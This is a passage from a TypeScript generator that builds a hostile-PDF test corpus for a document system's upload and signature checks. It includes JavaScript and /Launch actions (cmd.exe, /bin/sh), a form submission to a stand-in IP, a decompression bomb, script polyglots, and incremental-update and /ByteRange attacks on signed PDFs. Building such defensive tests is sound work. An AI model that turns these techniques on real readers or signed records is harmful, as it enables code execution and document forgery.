// Hostile-input corpus (issue 8, item 2): PDFs a clerk or another agency's node may send us — broken,
// encrypted, active, oversized in their claims, deeply nested — and attacks on signed PDFs. The tests
// in test/security/ build the corpus in memory (so the repository stays small and every case is
// reproducible from this file); `npx tsx scripts/gen-hostile-corpus.ts [DIR]` writes the same files
// to DIR (default test/fixtures/hostile/generated, not committed) to open them in other tools.
//
// Files of ../shared/corpus/pdf are used by path at test time, never copied here.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { fileURLToPath } from 'node:url';
import { PDFDocument, PDFName, PDFString, StandardFonts, rgb } from '@cantoo/pdf-lib';
import { CallbackKeySource, loadPkcs12, signAsAgency, signAsLeader, type KeySource } from '../server/signing/index.ts';

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const certs = (rel: string) => readFileSync(path.join(repoRoot, 'certs-sample', rel));
export const SAMPLE_PASS = 'VanThu-Test-Only-2026';

export interface HostileUpload {
  name: string;
  /** What the file tries; shown in the test name. */
  attack: string;
  bytes: Buffer;
}

export interface HostileSigned {
  name: string;
  attack: string;
  bytes: Buffer;
  /** The problem verifyPdf must name (matched against the report's problems and message). */
  problem: RegExp;
}

// ---------------------------------------------------------------------------------------------
// A hand-written PDF writer: objects as text, offsets computed, so the xref, trailer and header can
// be broken on purpose (pdf-lib always writes a correct file).

interface RawOptions {
  header?: string;
  /** Trailer entries after /Size and /Root. */
  trailer?: string;
  root?: string;
  size?: number;
  /** Replaces the computed xref section (offsets list) entirely. */
  xref?: (offsets: number[]) => string;
  startxref?: (xrefOffset: number) => string;
  /** Object numbers to write, default 1..n. */
  numbers?: number[];
}

export function rawPdf(objects: string[], o: RawOptions = {}): Buffer {
  let out = o.header ?? '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  const numbers = o.numbers ?? objects.map((_, i) => i + 1);
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${numbers[i]} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(out, 'latin1');
  const size = o.size ?? Math.max(...numbers) + 1;
  if (o.xref) out += o.xref(offsets);
  else {
    out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
    for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  }
  out += `trailer\n<< /Size ${size} /Root ${o.root ?? '1 0 R'}${o.trailer ? ` ${o.trailer}` : ''} >>\n`;
  out += o.startxref ? o.startxref(xrefAt) : `startxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

export const CONTENT = 'BT /F1 18 Tf 72 720 Td (Van ban thu nghiem) Tj ET';
export const stream = (data: string, extra = '') => `<< /Length ${Buffer.byteLength(data, 'latin1')}${extra ? ` ${extra}` : ''} >>\nstream\n${data}\nendstream`;
export const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** The four objects of a one-page document; `catalogExtra` and `pageExtra` go inside the dictionaries. */
export function onePage({ catalogExtra = '', pageExtra = '', pagesExtra = '', count = 1, extra = [] as string[] } = {}): string[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count ${count} ${pagesExtra} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${pageExtra} >>`,
    stream(CONTENT),
    FONT,
    ...extra,
  ];
}

/** pdf-lib document with one page of text (a real, well-formed base for mutations). */
export async function basePdf(lines = ['Ủy ban nhân dân tỉnh Nghệ An', 'Văn bản thử nghiệm'], pages = 1): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.TimesRoman);
  for (let p = 0; p < pages; p++) {
    const page = doc.addPage([595.28, 841.89]);
    lines.forEach((line, i) => page.drawText(line.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/đ/g, 'd').replace(/Đ/g, 'D'), { x: 60, y: 780 - i * 18, size: 12, font }));
  }
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

function replaceOnce(buf: Buffer, from: string | RegExp, to: string): Buffer {
  const s = buf.toString('latin1');
  const out = s.replace(from, to);
  if (out === s) throw new Error(`hostile corpus: mutation did not apply (${String(from)})`);
  return Buffer.from(out, 'latin1');
}

/** Deep structures written directly (a recursive parser would need one stack frame per level). */
const nested = (open: string, close: string, depth: number, inner = '0') => open.repeat(depth) + inner + close.repeat(depth);

function qpdfEncrypt(input: Buffer, args: string[]): Buffer | null {
  if (spawnSync('sh', ['-c', 'command -v qpdf']).status !== 0) return null;
  const dir = mkdtempSync(path.join(tmpdir(), 'vanthu-hostile-'));
  try {
    writeFileSync(path.join(dir, 'in.pdf'), input);
    // RC4 is "weak crypto" to qpdf 11: it must be allowed explicitly (outside --encrypt … --).
    const weak = args[0] !== '256' && !args.includes('--use-aes=y') ? ['--allow-weak-crypto'] : [];
    const r = spawnSync('qpdf', [...weak, '--encrypt', 'user', 'owner', ...args, '--', path.join(dir, 'in.pdf'), path.join(dir, 'out.pdf')]);
    if (r.status !== 0 && r.status !== 3) return null;
    return readFileSync(path.join(dir, 'out.pdf'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Adds to a pdf-lib document and saves (object streams on by default: checks must look inside them). */
async function withPdfLib(edit: (doc: PDFDocument) => void | Promise<void>, save: { useObjectStreams?: boolean } = {}): Promise<Buffer> {
  const doc = await PDFDocument.load(await basePdf());
  await edit(doc);
  return Buffer.from(await doc.save(save));
}

// ---------------------------------------------------------------------------------------------
// Uploads: every one of these must be refused by checkUpload (and so by receiveIncoming).

export async function hostileUploads(): Promise<HostileUpload[]> {
  const base = await basePdf();
  const out: HostileUpload[] = [];
  const add = (name: string, attack: string, bytes: Buffer) => out.push({ name, attack, bytes });

  // Truncated at several points: the reader would have to guess the rest.
  for (const f of [0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.98]) add(`truncated-${Math.round(f * 100)}.pdf`, `truncated to ${Math.round(f * 100)} %`, base.subarray(0, Math.max(9, Math.floor(base.length * f))));
  add('truncated-before-eof-marker.pdf', 'last 6 bytes (%%EOF) cut', base.subarray(0, base.length - 6));
  add('header-only.pdf', 'a header and an end marker, nothing between', Buffer.from('%PDF-1.7\n%%EOF\n'));
  add('empty.pdf', 'an empty file', Buffer.alloc(0));

  // Broken cross-reference tables and trailers.
  const objs = onePage();
  add('xref-startxref-zero.pdf', 'startxref points at offset 0', rawPdf(objs, { startxref: () => 'startxref\n0\n%%EOF\n' }));
  add('xref-startxref-beyond-eof.pdf', 'startxref beyond the end of the file', rawPdf(objs, { startxref: () => 'startxref\n99999999\n%%EOF\n' }));
  add('xref-startxref-negative.pdf', 'negative startxref', rawPdf(objs, { startxref: () => 'startxref\n-500\n%%EOF\n' }));
  add('xref-missing.pdf', 'no xref section and no startxref', rawPdf(objs, { xref: () => '', startxref: () => '%%EOF\n' }));
  add('xref-garbage-entries.pdf', 'xref rows are garbage', rawPdf(objs, { xref: (o) => `xref\n0 ${o.length + 1}\n` + 'zzzzzzzzzz zzzzz z \n'.repeat(o.length + 1) }));
  add('xref-offsets-shifted.pdf', 'every xref offset off by 7 bytes', rawPdf(objs, { xref: (o) => `xref\n0 ${o.length + 1}\n0000000000 65535 f \n` + o.map((x) => `${String(x + 7).padStart(10, '0')} 00000 n \n`).join('') }));
  add('trailer-no-root.pdf', 'trailer without /Root', replaceOnce(rawPdf(objs), '/Root 1 0 R', ''));
  add('trailer-root-missing-object.pdf', '/Root names an object that does not exist', rawPdf(objs, { root: '77 0 R' }));
  add('trailer-root-not-catalog.pdf', '/Root is a number', rawPdf(objs, { root: '42' }));
  add('catalog-no-pages.pdf', 'catalog without /Pages', rawPdf([`<< /Type /Catalog >>`, ...objs.slice(1)]));
  add('page-tree-empty.pdf', 'page tree with no pages', rawPdf(onePage({ count: 0 }).map((b, i) => (i === 1 ? '<< /Type /Pages /Kids [] /Count 0 >>' : b))));
  add('xref-stream-garbage.pdf', 'cross-reference stream with a broken /W', rawPdf(objs, {
    xref: () => '', startxref: (at) => `${objs.length + 1} 0 obj\n<< /Type /XRef /W [9 9 9] /Size 99 /Root 1 0 R /Length 4 >>\nstream\nABCD\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`,
  }));
  add('stream-length-huge.pdf', 'content stream /Length of 99 999 999 999', rawPdf([...objs.slice(0, 3), `<< /Length 99999999999 >>\nstream\n${CONTENT}\nendstream`, FONT]));
  add('stream-length-negative.pdf', 'content stream /Length -1 and no endstream', rawPdf([...objs.slice(0, 3), `<< /Length -1 >>\nstream\n${CONTENT}`, FONT]));

  // Encryption (RC4 and AES): a record must be readable without a password for decades.
  for (const [label, args] of [['rc4-40', ['40']], ['rc4-128', ['128', '--use-aes=n']], ['aes-128', ['128', '--use-aes=y']], ['aes-256', ['256']]] as const) {
    const enc = qpdfEncrypt(base, [...args]);
    if (enc) add(`encrypted-${label}.pdf`, `encrypted with ${label.toUpperCase()} (qpdf)`, enc);
  }
  add('encrypt-dict-rc4.pdf', 'trailer /Encrypt with the standard RC4 handler', rawPdf([...objs, '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>'], { trailer: '/Encrypt 6 0 R /ID [<01><01>]' }));
  add('encrypt-dict-aes.pdf', 'trailer /Encrypt with AESV2 crypt filters', rawPdf([...objs, '<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF /P -4 /O <00> /U <00> >>'], { trailer: '/Encrypt 6 0 R /ID [<01><01>]' }));
  add('encrypt-direct-dict.pdf', 'trailer /Encrypt as a direct dictionary (AESV3)', rawPdf(objs, { trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 >> /ID [<01><01>]' }));
  add('encrypt-pubkey.pdf', 'public-key security handler', rawPdf([...objs, '<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Recipients [<3000>] >>'], { trailer: '/Encrypt 6 0 R' }));

  // Scripts and actions that run when the file is opened.
  add('js-openaction-direct.pdf', 'JavaScript /OpenAction', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' })));
  add('js-openaction-indirect.pdf', 'JavaScript /OpenAction in its own object', rawPdf(onePage({ catalogExtra: '/OpenAction 6 0 R', extra: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'] })));
  add('js-names-tree.pdf', 'document-level JavaScript in the /Names tree', rawPdf(onePage({ catalogExtra: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.print\\(\\)) >>] >> >>' })));
  add('js-page-aa.pdf', 'page open additional action running JavaScript', rawPdf(onePage({ pageExtra: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' })));
  add('js-catalog-aa-will-close.pdf', 'document close action (/AA /WC) running JavaScript', rawPdf(onePage({ catalogExtra: '/AA << /WC << /S /JavaScript /JS (x) >> >>' })));
  add('js-link-annotation-indirect.pdf', 'link annotation whose action is JavaScript', rawPdf(onePage({ pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 7 0 R >>', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'] })));
  add('js-link-annotation-direct.pdf', 'link annotation with a direct JavaScript /A', rawPdf(onePage({ pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'] })));
  add('js-annotation-inline-in-page.pdf', 'annotation written inline in /Annots with a JavaScript action', rawPdf(onePage({ pageExtra: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /JavaScript /JS (x) >> >>]' })));
  add('js-widget-field-action.pdf', 'form field keystroke action (/AA /K) running JavaScript', rawPdf(onePage({ catalogExtra: '/AcroForm << /Fields [6 0 R] >>', pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 99 20] /P 3 0 R /AA << /K << /S /JavaScript /JS (x) >> >> >>'] })));
  add('js-next-chain.pdf', 'harmless GoTo whose /Next is JavaScript', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>' })));
  add('js-next-chain-deep.pdf', 'JavaScript three /Next levels down', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> >>] >>' })));
  add('js-name-hex-escaped.pdf', 'action type written /Java#53cript (hex escape in a name)', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /Java#53cript /J#53 (x) >>' })));
  add('js-stream-body.pdf', 'JavaScript held in a stream', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /JavaScript /JS 6 0 R >>', extra: [stream('app.alert(1)')] })));
  add('js-in-object-stream.pdf', 'JavaScript action stored inside a compressed object stream', await withPdfLib((doc) => {
    const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  }, { useObjectStreams: true }));
  add('xfa-form.pdf', 'XFA form (scriptable)', rawPdf(onePage({ catalogExtra: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')] })));
  add('richmedia.pdf', 'RichMedia (Flash) annotation', rawPdf(onePage({ pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << >> >>'] })));

  // Leaving the reader: launch a program, submit or import data.
  add('launch-openaction.pdf', '/Launch of cmd.exe on open', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' })));
  add('launch-link.pdf', 'link annotation that launches a program', rawPdf(onePage({ pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/bin/sh) >> >>'] })));
  add('launch-page-close.pdf', 'page close action launching a file', rawPdf(onePage({ pageExtra: '/AA << /C << /S /Launch /F (evil.exe) >> >>' })));
  add('submitform-openaction.pdf', '/SubmitForm to a remote URL on open', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://203.0.113.9/x) >> >>' })));
  add('importdata-openaction.pdf', '/ImportData on open', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /ImportData /F (data.fdf) >>' })));
  add('rendition-openaction.pdf', '/Rendition on open', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /Rendition /OP 0 >>' })));

  // Embedded files: a record is what is shown, not a carrier for other files.
  add('embedded-file-pdflib.pdf', 'an attachment added with pdf-lib (/EmbeddedFiles)', await withPdfLib(async (doc) => {
    await doc.attach(Buffer.from('MZ payload'), 'setup.exe', { mimeType: 'application/octet-stream' });
  }, { useObjectStreams: false }));
  add('embedded-file-names-tree.pdf', '/Names /EmbeddedFiles tree written by hand', rawPdf(onePage({ catalogExtra: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', extra: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')] })));
  add('embedded-file-annotation.pdf', 'FileAttachment annotation carrying a file', rawPdf(onePage({ pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>', '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')] })));
  add('embedded-file-untyped-stream.pdf', 'FileAttachment whose file stream has no /Type', rawPdf(onePage({ pageExtra: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /F (a.exe) /EF << /F 7 0 R >> >> >>', stream('MZ')] })));
  add('gotoe-embedded.pdf', '/GoToE into an embedded document', rawPdf(onePage({ catalogExtra: '/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>' })));

  // Lies about size: pages claimed, real page counts, object numbers.
  for (const n of ['1000000', '2147483647', '9007199254740993', '-1', '1e9', '(many)']) add(`pages-count-${n.replace(/[^\w-]/g, '')}.pdf`, `/Count ${n} with one real page`, rawPdf(onePage({ count: n as unknown as number })));
  add('pages-kids-same-page-10000.pdf', '10 000 /Kids entries all naming one page', rawPdf(onePage().map((b, i) => (i === 1 ? `<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>` : b))));
  add('pages-real-6000.pdf', '6 000 real pages (over the page limit)', await basePdf(['x'], 6000));
  add('page-tree-circular.pdf', 'page tree whose kid is its own parent', rawPdf(onePage().map((b, i) => (i === 1 ? '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' : b))));
  add('page-tree-depth-5000.pdf', 'page tree 5 000 levels deep', (() => {
    const depth = 5000;
    const nodes: string[] = [`<< /Type /Catalog /Pages 2 0 R >>`];
    for (let i = 0; i < depth; i++) nodes.push(`<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1 ${i ? `/Parent ${i + 1} 0 R` : ''} >>`);
    nodes.push(`<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 595 842] >>`);
    return rawPdf(nodes);
  })());
  add('object-number-huge.pdf', 'objects numbered 2 147 483 647 and up', rawPdf(onePage(), { numbers: [2147483647, 2, 3, 4, 5], root: '2147483647 0 R' }));
  add('object-number-beyond-int.pdf', 'object number beyond 2^53', rawPdf(onePage(), { numbers: [1, 2, 3, 4, 9007199254740993], size: 6 }));
  add('xref-size-huge.pdf', 'trailer /Size 2^31 and an xref subsection of 4 294 967 295 entries', rawPdf(onePage(), { size: 2147483648, xref: (o) => `xref\n0 4294967295\n0000000000 65535 f \n` + o.map((x) => `${String(x).padStart(10, '0')} 00000 n \n`).join('') }));
  add('generation-huge.pdf', 'generation numbers of 99 999', replaceOnce(rawPdf(onePage()), /^1 0 obj/m, '1 99999 obj'));

  // Deep nesting: a recursive-descent parser needs one frame per level.
  add('nested-arrays-100k.pdf', 'an array nested 100 000 deep', rawPdf([...onePage(), nested('[', ']', 100_000)]));
  add('nested-dicts-50k.pdf', 'a dictionary nested 50 000 deep', rawPdf([...onePage(), nested('<< /A ', ' >>', 50_000)]));
  add('nested-arrays-in-page.pdf', 'a page /MediaBox nested 20 000 deep', rawPdf(onePage({ pageExtra: `/Foo ${nested('[', ']', 20_000)}` })));
  add('nested-outlines-circular.pdf', 'outline items that point at each other', rawPdf(onePage({ catalogExtra: '/Outlines 6 0 R', extra: ['<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>', '<< /Title (a) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R >>'] })));
  add('reference-loop.pdf', 'contents reference that points at itself', rawPdf([...onePage().slice(0, 3).map((b, i) => (i === 2 ? b.replace('/Contents 4 0 R', '/Contents 6 0 R') : b)), stream(CONTENT), FONT, '6 0 R']));

  // Decompression bombs inside the PDF (an object stream pdf-lib must inflate to read the objects).
  add('objstm-bomb-64mb.pdf', 'an object stream inflating to 64 MB', (() => {
    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20));
    const head = Buffer.from(rawPdf(onePage()).toString('latin1').replace(/xref[\s\S]*$/, ''), 'latin1');
    const objStm = Buffer.concat([Buffer.from(`6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`), bomb, Buffer.from('\nendstream\nendobj\n')]);
    const at = head.length;
    const tail = `xref\n0 7\n0000000000 65535 f \n${'0000000015 00000 n \n'.repeat(5)}${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n${at + objStm.length}\n%%EOF\n`;
    return Buffer.concat([head, objStm, Buffer.from(tail)]);
  })());

  // Not PDFs at all, or PDFs in disguise.
  add('html-named-pdf.pdf', 'an HTML page named .pdf', Buffer.from('<!doctype html><script>alert(1)</script>'));
  add('exe-with-pdf-marker.pdf', 'a Windows executable with %PDF- inside its first kilobyte', Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(200), Buffer.from('%PDF-1.7\n'), Buffer.alloc(100), Buffer.from('%%EOF\n')]));
  add('zip-named-pdf.pdf', 'a zip archive named .pdf', Buffer.from('504b0304140000000800000000000000000000000000000000000000', 'hex'));
  add('html-pdf-polyglot.pdf', 'HTML with a script followed by a PDF', Buffer.concat([Buffer.from('<html><script>alert(1)</script>\n'), base]));
  add('pdf-then-script-polyglot.pdf', 'an HTML payload hidden in a PDF comment before the header', Buffer.concat([Buffer.from('%<script>alert(1)</script>\n'), base]));
  add('svg-named-pdf.pdf', 'an SVG with script named .pdf', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'));
  add('random-bytes.pdf', '4 KB of random bytes after a PDF header', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 131 + 7) % 256)), Buffer.from('\n%%EOF\n')]));
  add('pdf-header-only-no-objects.pdf', 'header, xref and trailer but no objects', Buffer.from('%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 >>\nstartxref\n9\n%%EOF\n'));
  add('image-jpeg-truncated.pdf', 'a truncated JPEG (typed by content, not name)', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]));
  add('image-png-huge-dimensions.pdf', 'a PNG header claiming 100 000 × 100 000 pixels', (() => {
    const b = Buffer.alloc(33 + 12);
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(b, 0);
    b.writeUInt32BE(13, 8);
    b.write('IHDR', 12, 'latin1');
    b.writeUInt32BE(100_000, 16);
    b.writeUInt32BE(100_000, 20);
    return b;
  })());
  return out;
}

// ---------------------------------------------------------------------------------------------
// Signed PDFs: a valid base signed with the sample PKI, then attacked. verifyPdf must say "invalid"
// (or "unsigned" where the attack removes the signature) and name the problem.

export interface SignedBase {
  signed: Buffer;
  /** Offsets of the signature's /ByteRange [a b c d]. */
  byteRange: [number, number, number, number];
}

export async function signedBase(): Promise<SignedBase> {
  const key = await loadPkcs12(certs('persons/nguyen-thi-lap-lanh-anh.p12'), SAMPLE_PASS);
  const res = await signAsLeader(await basePdf(['UY BAN NHAN DAN TINH NGHE AN', 'QUYET DINH ve viec thu nghiem', 'CHU TICH']), key, {
    position: 'CHỦ TỊCH',
    signatureImage: certs('images/signature-nguyen-thi-lap-lanh-anh.png'),
    fallback: { x: 330, y: 120, width: 200, height: 90 },
  });
  const signed = Buffer.from(res.pdf);
  return { signed, byteRange: byteRangeOf(signed) };
}

export function byteRangeOf(pdf: Buffer, which: 'first' | 'last' = 'last'): [number, number, number, number] {
  const all = [...pdf.toString('latin1').matchAll(/\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/g)];
  const m = which === 'first' ? all[0] : all.at(-1);
  if (!m) throw new Error('no /ByteRange');
  return m.slice(1, 5).map(Number) as [number, number, number, number];
}

/** Rewrites the signature's /ByteRange numbers, keeping the file length (space-padded). */
function setByteRange(pdf: Buffer, values: (number | string)[]): Buffer {
  const s = pdf.toString('latin1');
  const m = /\/ByteRange\s*\[[^\]]*\] */.exec(s)!;
  const text = `/ByteRange [${values.join(' ')}]`;
  if (text.length > m[0].length) throw new Error(`ByteRange text too long: ${text}`);
  return Buffer.from(s.slice(0, m.index) + text.padEnd(m[0].length, ' ') + s.slice(m.index + m[0].length), 'latin1');
}

async function incremental(pdf: Buffer, edit: (doc: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const doc = await PDFDocument.load(pdf, { forIncrementalUpdate: true } as Parameters<typeof PDFDocument.load>[1]);
  await edit(doc);
  const commit = (doc as unknown as { commit(): Promise<Uint8Array> }).commit;
  return Buffer.from(await commit.call(doc));
}

/** Marks an object as changed in the incremental update (cantoo's change tracking). */
function touch(doc: PDFDocument, ref: ReturnType<PDFDocument['context']['register']>): void {
  const d = doc as unknown as { context: { snapshot?: { markRefForSave(r: unknown): void } } };
  d.context.snapshot?.markRefForSave(ref);
}

const INTEGRITY = /ByteRange|thay đổi|không đúng|không đọc được|CMS/i;
const CONTENT_CHANGED = /thay đổi/i;

export async function hostileSigned(base: SignedBase): Promise<HostileSigned[]> {
  const { signed } = base;
  const [a, b, c, d] = base.byteRange;
  const out: HostileSigned[] = [];
  const add = (name: string, attack: string, bytes: Buffer, problem: RegExp) => out.push({ name, attack, bytes, problem });
  const uncovered = /không bao phủ|chưa được ký|sau khi ký|ByteRange|thay đổi/i;

  // Content appended after the signature (not covered by /ByteRange).
  add('appended-junk.pdf', 'junk bytes appended after %%EOF', Buffer.concat([signed, Buffer.from('\n<script>alert(1)</script>\n')]), uncovered);
  add('appended-second-pdf.pdf', 'a whole second PDF appended', Buffer.concat([signed, await basePdf(['VAN BAN GIA MAO'])]), uncovered);
  add('appended-new-page-content.pdf', 'an incremental update that replaces the page text', await incremental(signed, async (doc) => {
    const page = doc.getPage(0);
    const font = await doc.embedFont(StandardFonts.Helvetica);
    page.drawRectangle({ x: 40, y: 700, width: 520, height: 120, color: rgb(1, 1, 1) });
    page.drawText('QUYET DINH da bi sua sau khi ky', { x: 60, y: 780, size: 14, font });
  }), CONTENT_CHANGED);
  add('incremental-add-page.pdf', 'an incremental update that adds a page', await incremental(signed, (doc) => {
    doc.addPage([595, 842]);
  }), CONTENT_CHANGED);
  add('incremental-remove-page.pdf', 'an incremental update that removes the only page', await incremental(signed, (doc) => {
    doc.addPage([595, 842]);
    doc.removePage(0);
  }), CONTENT_CHANGED);
  add('incremental-replace-contents-ref.pdf', 'shadow "replace": the page /Contents now points at a new stream', await incremental(signed, (doc) => {
    const page = doc.getPage(0);
    const s = doc.context.flateStream('BT /F1 24 Tf 72 700 Td (Noi dung khac) Tj ET');
    page.node.set(PDFName.of('Contents'), doc.context.register(s));
    touch(doc, page.ref);
  }), CONTENT_CHANGED);
  add('incremental-replace-mediabox.pdf', 'shadow "hide": the page /MediaBox now hides the text', await incremental(signed, (doc) => {
    const page = doc.getPage(0);
    page.setMediaBox(0, 0, 50, 50);
    touch(doc, page.ref);
  }), CONTENT_CHANGED);
  add('incremental-new-catalog.pdf', 'shadow "hide-and-replace": a new /Root with another page tree', await (async () => {
    const other = await PDFDocument.load(await basePdf(['VAN BAN GIA MAO']));
    return incremental(signed, async (doc) => {
      const [p] = await doc.copyPages(other, [0]);
      const pages = doc.context.obj({ Type: 'Pages', Kids: [doc.context.register(p!.node)], Count: 1 });
      const pagesRef = doc.context.register(pages);
      p!.node.set(PDFName.of('Parent'), pagesRef);
      const catalog = doc.context.obj({ Type: 'Catalog', Pages: pagesRef, AcroForm: doc.catalog.get(PDFName.of('AcroForm')) ?? null });
      doc.context.trailerInfo.Root = doc.context.register(catalog);
    });
  })(), CONTENT_CHANGED);
  add('incremental-overwrite-font.pdf', 'shadow "replace": the font resource swapped after signing', await incremental(signed, async (doc) => {
    const page = doc.getPage(0);
    const res = page.node.Resources()!;
    const font = doc.context.obj({ Type: 'Font', Subtype: 'Type1', BaseFont: 'ZapfDingbats' });
    const fonts = res.lookup(PDFName.of('Font'));
    if (fonts && 'entries' in fonts) for (const [k] of (fonts as unknown as { entries(): [PDFName, unknown][] }).entries()) (fonts as unknown as { set(k: PDFName, v: unknown): void }).set(k, doc.context.register(font));
    touch(doc, page.ref);
    const fontsRef = res.get(PDFName.of('Font'));
    if (fontsRef && 'objectNumber' in fontsRef) touch(doc, fontsRef as ReturnType<PDFDocument['context']['register']>);
  }), CONTENT_CHANGED);

  // Byte-range manipulation (the numbers themselves are signed, so any change also breaks the digest).
  add('byterange-gap-widened.pdf', 'gap widened: the first range ends 100 bytes early', setByteRange(signed, [a, b - 100, c, d]), INTEGRITY);
  add('byterange-tail-short.pdf', 'tail not covered: the second range stops 200 bytes before EOF', setByteRange(signed, [a, b, c, d - 200]), INTEGRITY);
  add('byterange-overlap.pdf', 'ranges overlap: the second starts inside the first', setByteRange(signed, [a, b, b - 50, d + 50 + (c - b)]), INTEGRITY);
  add('byterange-beyond-eof.pdf', 'the second range runs past the end of the file', setByteRange(signed, [a, b, c, d + 100000]), INTEGRITY);
  add('byterange-not-from-zero.pdf', 'the first range does not start at 0', setByteRange(signed, [10, b - 10, c, d]), INTEGRITY);
  add('byterange-negative.pdf', 'a negative length', setByteRange(signed, [a, -b, c, d]), INTEGRITY);
  add('byterange-three-numbers.pdf', 'three numbers instead of four', setByteRange(signed, [a, b, c]), INTEGRITY);
  add('byterange-six-numbers.pdf', 'three ranges (two gaps)', setByteRange(signed, [a, 10, 20, b - 20, c, d]), INTEGRITY);
  add('byterange-not-numbers.pdf', 'names instead of numbers', setByteRange(signed, ['/a', '/b', '/c', '/d']), INTEGRITY);
  add('byterange-huge-numbers.pdf', 'offsets around 2^53', setByteRange(signed, [0, 9007199254740993, 9007199254740999, 1]), INTEGRITY);
